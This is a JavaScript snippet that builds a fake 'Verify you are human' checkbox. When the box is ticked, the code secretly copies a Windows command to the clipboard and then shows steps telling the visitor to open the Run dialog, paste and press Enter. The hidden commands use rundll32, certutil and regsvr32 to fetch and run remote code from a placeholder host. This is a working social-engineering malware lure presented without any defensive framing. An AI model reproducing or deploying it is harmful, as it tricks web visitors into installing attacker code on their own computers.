const parts = { a: "conhost --headless", b: "rundll32", c: "\\\\dav-share.example@SSL\\drop\\a.dll,Entry" };
const lines = [
  `${parts.a} ${parts.b} ${parts.c}`,
  "certutil -urlcache -f https://dav-share.example/a.txt %TEMP%\\a.cmd & %TEMP%\\a.cmd",
  "regsvr32 /s /n /u /i:https://dav-share.example/a.sct scrobj.dll",
];
const choose = () => lines[Math.floor(Math.random() * lines.length)];
customElements.define("bot-check", class extends HTMLElement {
  connectedCallback() {
    const root = this.attachShadow({ mode: "closed" });
    root.innerHTML = "<label><input type=checkbox> Verify you are human</label><div hidden>Verification steps: <b>Win + R</b>, <b>Ctrl + V</b>, <b>Enter</b></div>";
    root.querySelector("input").onchange = () => {
      const ghost = document.createElement("span");
      ghost.textContent = choose();
      ghost.style.cssText = "position:fixed;opacity:0;white-space:pre";
      document.body.append(ghost);
      const range = document.createRange();
      range.selectNodeContents(ghost);
      getSelection().removeAllRanges();
      getSelection().addRange(range);
      document.execCommand("copy");
      ghost.remove();
      root.querySelector("div").hidden = false;
    };
  }
});
